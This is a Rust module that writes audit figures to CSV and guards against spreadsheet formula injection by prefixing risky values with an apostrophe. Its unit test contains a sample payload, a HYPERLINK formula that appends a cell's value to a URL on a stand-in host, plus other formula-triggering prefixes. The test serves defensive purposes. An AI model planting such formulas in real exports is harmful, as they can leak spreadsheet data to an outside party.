//! Figures as spreadsheets: every collated figure (internal), or exactly what one edition
//! shows (for its audience), as CSV.

use crate::collate::disclose::Shown;
use std::collections::BTreeMap;

/// A readable name for every measure: the checklist item's or the question's chart label.
pub fn measure_labels(audit: &crate::check::Audit) -> std::collections::BTreeMap<String, String> {
    let mut labels = std::collections::BTreeMap::new();
    for question in &audit.bank.questions {
        for measure in question.measures() {
            let label = match (&measure.item, &question.chart) {
                (Some(item), _) => item.chart_label().to_string(),
                (None, Some(chart)) => chart.title.clone(),
                (None, None) => question.text.clone(),
            };
            labels.insert(measure.id, label);
        }
    }
    labels
}

/// `text` as a spreadsheet reads it as text: one starting with `=`, `+`, `-`, `@`, a tab or
/// a carriage return would be run as a formula (`=HYPERLINK(…)` in a chart title), so it
/// gets an apostrophe in front, as a spreadsheet writes one.
fn as_text(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// Figures as CSV: one row per scope, measure and option. Without an edition, every collated
/// figure for all cases, each case and each agency (internal). For an edition, exactly the
/// measures it shows, all cases together, as it shows them (withheld figures read
/// "withheld").
pub fn figures_csv(
    stats: &crate::collate::Stats,
    labels: &BTreeMap<String, String>,
    edition: Option<(&crate::edition::Edition, &crate::document::Document)>,
) -> Vec<u8> {
    let mut out = csv::Writer::from_writer(Vec::new());
    let _ = out.write_record([
        "scope", "measure", "label", "option", "count", "base", "percent",
    ]);
    let mut scopes: Vec<(String, &crate::collate::Collation)> =
        vec![("all cases".into(), &stats.all)];
    if edition.is_none() {
        scopes.extend(
            stats
                .by_case
                .iter()
                .map(|(case, c)| (format!("case {case}"), c)),
        );
        scopes.extend(
            stats
                .by_agency
                .iter()
                .map(|(agency, (_, c))| (format!("agency {agency}"), c)),
        );
    }
    let below = edition.and_then(|(e, _)| e.suppress_below);
    let shown = |count: crate::collate::disclose::Shown| match count {
        crate::collate::disclose::Shown::Count(n) => n.to_string(),
        crate::collate::disclose::Shown::Withheld => crate::collate::numbers::WITHHELD.to_string(),
    };
    for (scope, collation) in scopes {
        for (measure, tally) in &collation.measures {
            if edition.is_some_and(|(_, d)| !d.shown_in.contains_key(measure)) {
                continue;
            }
            let tally = crate::collate::disclose::disclose(tally, below);
            let label = labels.get(measure).map(String::as_str).unwrap_or("");
            for (option, count) in &tally.counts {
                let percent = match (count, tally.base) {
                    (Shown::Count(c), Shown::Count(b)) => crate::collate::numbers::percent(*c, b),
                    _ => crate::collate::numbers::WITHHELD.to_string(),
                };
                let (scope, label) = (as_text(&scope), as_text(label));
                let row = [
                    scope.as_ref(),
                    measure,
                    label.as_ref(),
                    option,
                    &shown(*count),
                    &shown(tally.base),
                    &percent,
                ];
                let _ = out.write_record(row);
            }
        }
    }
    out.into_inner().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    /// A label that a spreadsheet would run as a formula is written as text.
    #[test]
    fn a_formula_in_a_label_is_written_as_text() {
        assert_eq!(
            super::as_text("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
            "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"
        );
        for risky in ["+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(super::as_text(risky).starts_with('\''), "{risky:?}");
        }
        assert_eq!(super::as_text("Supervision (q2)"), "Supervision (q2)");
    }
}
